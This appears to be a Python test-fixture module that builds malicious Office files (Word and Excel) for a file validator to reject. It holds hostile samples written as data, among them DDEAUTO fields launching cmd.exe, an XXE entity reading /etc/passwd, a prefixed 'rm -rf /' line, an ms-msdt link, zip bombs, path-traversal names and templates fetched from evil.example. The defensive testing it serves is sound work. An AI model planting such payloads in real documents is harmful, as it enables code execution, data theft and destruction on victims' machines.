"""Office files that mean harm: macros, programs, fields, entities, and archives that lie."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib

from tests.files.samples import changed_part, docx, with_part, xlsx, zip_of

HTML = b"<!DOCTYPE html><html><body onload=alert(1)><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
JAR = zip_of(**{"META-INF/MANIFEST.MF": b"Main-Class: Evil", "Evil.class": b"\xca\xfe\xba\xbe"})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
EXTERNAL = ' TargetMode="External"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = "[Content_Types].xml"


def typed(content: bytes, name: str, kind: str, value: bytes = b"x") -> bytes:
    """A part with its declared type."""
    with_type = changed_part(
        content, TYPES, b"</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
    )
    return with_part(with_type, name, value)


def relations(kind: str, target: str, mode: str = "", prefix: str = "") -> bytes:
    """A part of relations with one of them."""
    mark, space = (f"{prefix}:", f"xmlns:{prefix}") if prefix else ("", "xmlns")
    return (
        f'<{mark}Relationships {space}="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<{mark}Relationship Id="r1" Type="{kind}" Target="{target}"{mode}/></{mark}Relationships>'
    ).encode()


def linked(content: bytes, kind: str, target: str, mode: str = EXTERNAL, prefix: str = "") -> bytes:
    """A relationship of the document (or of settings, where templates hang)."""
    return with_part(content, "word/_rels/settings.xml.rels", relations(kind, target, mode, prefix))


def worded(body: str) -> bytes:
    """A Word document of this body."""
    xml = f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>'
    return with_part(docx(), "word/document.xml", xml.encode())


def run(code: str) -> str:
    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*pieces: str) -> str:
    return f"<w:p>{char('begin')}{''.join(run(piece) for piece in pieces)}{char('end')}</w:p>"


ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY e SYSTEM "file:///etc/passwd">]><d>&c;&e;</d>"""


IN_UTF_16 = ENTITIES.decode().replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")


def with_member(name: str, *, flags: int = 0, method: int = zipfile.ZIP_STORED, link: bool = False) -> bytes:
    """A Word file with a part that is described in an odd way."""
    buffer = io.BytesIO(docx())
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of names that stand twice
        info = zipfile.ZipInfo(name)
        info.compress_type = method
        if link:
            info.external_attr = 0o120777 << 16
        archive.writestr(info, b"evil" * 20)
    content = bytearray(buffer.getvalue())
    if flags:
        for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            place = content.rfind(mark) + offset
            content[place : place + 2] = struct.pack("<H", flags)
    return bytes(content)


def lying(offset: int, value: bytes, *, mark: bytes = b"PK\x01\x02", last: bool = True) -> bytes:
    """A Word file in whose directory (or in front of a part) some bytes were changed."""
    content = bytearray(docx())
    place = (content.rfind(mark) if last else content.find(mark)) + offset
    content[place : place + len(value)] = value
    return bytes(content)


def with_gap() -> bytes:
    """Something between the last part and the directory, which the directory does not know."""
    content = docx()
    start = content.find(b"PK\x01\x02")
    hidden = b"<script>alert(1)</script>"
    moved = struct.unpack_from("<L", content, len(content) - 6)[0] + len(hidden)
    end = content[len(content) - 22 : len(content) - 6] + struct.pack("<LH", moved, 0)
    return content[:start] + hidden + content[start : len(content) - 22] + end


def longer_than_it_says() -> bytes:
    """A part that unpacks to more than every place says; who believes the places reads another part than who unpacks."""
    content = bytearray(with_part(docx(), "word/media/a.png", b"A" * 5000))
    said = struct.pack("<L", zlib.crc32(b"A" * 9)), struct.pack("<L", 9)
    for mark, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        place = content.rfind(mark) + offset
        content[place : place + 4], content[place + 8 : place + 12] = said
    return bytes(content)


def overlapping() -> bytes:
    """Two parts in the directory that are the same bytes of the file: a bomb that needs no ratio."""
    content = bytearray(with_part(docx(), "word/media/a.png", b"\0" * 1_000_000))
    first = content.find(b"PK\x01\x02")
    entry_size = 46 + sum(struct.unpack_from("<3H", content, first + 28))
    entry = bytearray(content[first : first + entry_size])
    end = len(content) - 22
    copies, length = 40, len(entry) * 40
    here, _, size, _, _ = struct.unpack_from("<2H2LH", content, end + 8)
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, here + copies, here + copies, size + length, first, 0)
    named = b"".join(entry[:46] + f"{n:04d}".encode() + entry[50:] for n in range(copies))
    return bytes(content[:end]) + named + tail


def many_parts() -> bytes:
    """More parts than any document has."""
    buffer = io.BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        for n in range(4200):
            archive.writestr(f"word/media/{n}.png", b"")
    return buffer.getvalue()


WORD = {
    "macros under another name": typed(docx(), "word/photo.bin", "application/vnd.ms-office.vbaProject"),
    "macros by a type for an extension": changed_part(
        docx(), TYPES, b"<Default ",
        b'<Default Extension="bin" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Default ',
    ),
    "macros": with_part(docx(), "word/vbaProject.bin", OLE),
    "a template from elsewhere": linked(docx(), f"{RELATIONS}/attachedTemplate", "http://evil.example/a.dotm"),
    "a template behind entities and prefixes": linked(
        docx(), f"{RELATIONS}/attached&#84;emplate", "//evil.example/a", " TargetMode='&#69;xternal'", "q"
    ),
    "a picture from elsewhere": linked(docx(), f"{RELATIONS}/image", "https://evil.example/a.png"),
    "an object from elsewhere": linked(docx(), f"{RELATIONS}/oleObject", "file://///evil.example/a.doc"),
    "a link that runs a script": linked(docx(), f"{RELATIONS}/hyperlink", "javascript:alert(1)"),
    "a link that runs a protocol": linked(docx(), f"{RELATIONS}/hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "a web page inside (altChunk)": with_part(
        linked(docx(), f"{RELATIONS}/aFChunk", "chunk.bin", ""), "word/chunk.bin", HTML
    ),
    "a control": with_part(docx(), "word/activeX/activeX1.xml", b"<x/>"),
    "a program called a picture": with_part(docx(), "word/media/image1.png", b"MZ\x90\x00" + b"\0" * 99),
    "an OLE object called a picture": with_part(docx(), "word/media/image1.png", OLE),
    "an archive called a picture": with_part(docx(), "word/media/image1.png", JAR),
    "a drawing with script": with_part(docx(), "word/media/image1.svg", SVG),
    "an add-in": linked(docx(), "http://schemas.microsoft.com/office/2011/relationships/webextension", "x.xml", ""),
    "DDE in one piece": worded('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot;"/></w:p>'),
    "DDE cut into pieces": worded(field("D", "DEA", "UTO ", "c:\\\\cmd.exe")),
    "DDE inside a field": worded(char("begin") + run("QUOTE ") + char("begin") + run("DDE cmd") + char("end") * 2),
    "a picture fetched by a field": worded(field("INCLUDEPICTURE ", "\\\\evil.example\\a.png")),
    "entities": with_part(docx(), "word/document.xml", ENTITIES),
    "entities in UTF-16": with_part(docx(), "docProps/app.xml", IN_UTF_16),
    "entities in the types": with_part(docx(), TYPES, ENTITIES),
    "a document type in a relation": with_part(docx(), "word/_rels/document.xml.rels", ENTITIES),
    "a bomb": with_part(docx(), "word/media/zeros.png", b"\0" * 60_000_000),
    "parts that overlap": overlapping(),
    "a part that is longer than it says": longer_than_it_says(),
    "too many parts": many_parts(),
    "a part that exists twice": with_member("word/document.xml"),
    "a part that exists twice but for case": with_member("WORD/document.xml"),
    "an absolute name": with_member("/etc/cron.d/evil"),
    "a name that climbs": with_member("../../evil.xml"),
    "a name with a drive": with_member("C:/evil.xml"),
    "a link to a file": with_member("word/media/link", link=True),
    "a locked part": with_member("word/media/locked.png", flags=0x1),
    "an unusual packing": with_member("word/media/bz.png", method=zipfile.ZIP_BZIP2),
    "a directory that says less": lying(24, struct.pack("<L", 3)),
    "a directory of other names": lying(46, b"x"),
    "a part of another length": lying(22, struct.pack("<L", 1), mark=b"PK\x03\x04"),
    "a directory that counts less": lying(10, struct.pack("<H", 3), mark=b"PK\x05\x06"),
    "something between the parts": with_gap(),
    "something in front": b"#!/bin/sh\nrm -rf /\n" + docx(),
    "something behind": docx() + HTML,
    "an Excel file": xlsx(),
    "an archive": JAR,
}  # fmt: skip

EXCEL = {
    "a macro sheet": typed(xlsx(), "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", b"<x/>"),
    "a macro workbook by its type": changed_part(
        xlsx(), TYPES, b"openxmlformats-officedocument.spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"
    ),
    "DDE": typed(
        xlsx(), "xl/externalLinks/externalLink1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        b'<x:externalLink xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:ddeLink/></x:externalLink>',
    ),
    "data fetched from elsewhere": typed(
        xlsx(), "xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", b"<c/>"
    ),
    "a book on another computer": with_part(
        xlsx(), "xl/externalLinks/_rels/externalLink1.xml.rels",
        relations(f"{RELATIONS}/externalLinkPath", "file:///\\\\evil.example\\a.xlsx", EXTERNAL),
    ),
    "a Word file": docx(),
    "a file with macros inside": with_part(
        with_part(
            xlsx(), "xl/charts/_rels/chart1.xml.rels",
            relations(f"{RELATIONS}/package", "../embeddings/book.xlsx"),
        ),
        "xl/embeddings/book.xlsx", with_part(xlsx(), "xl/vbaProject.bin", OLE),
    ),
}  # fmt: skip
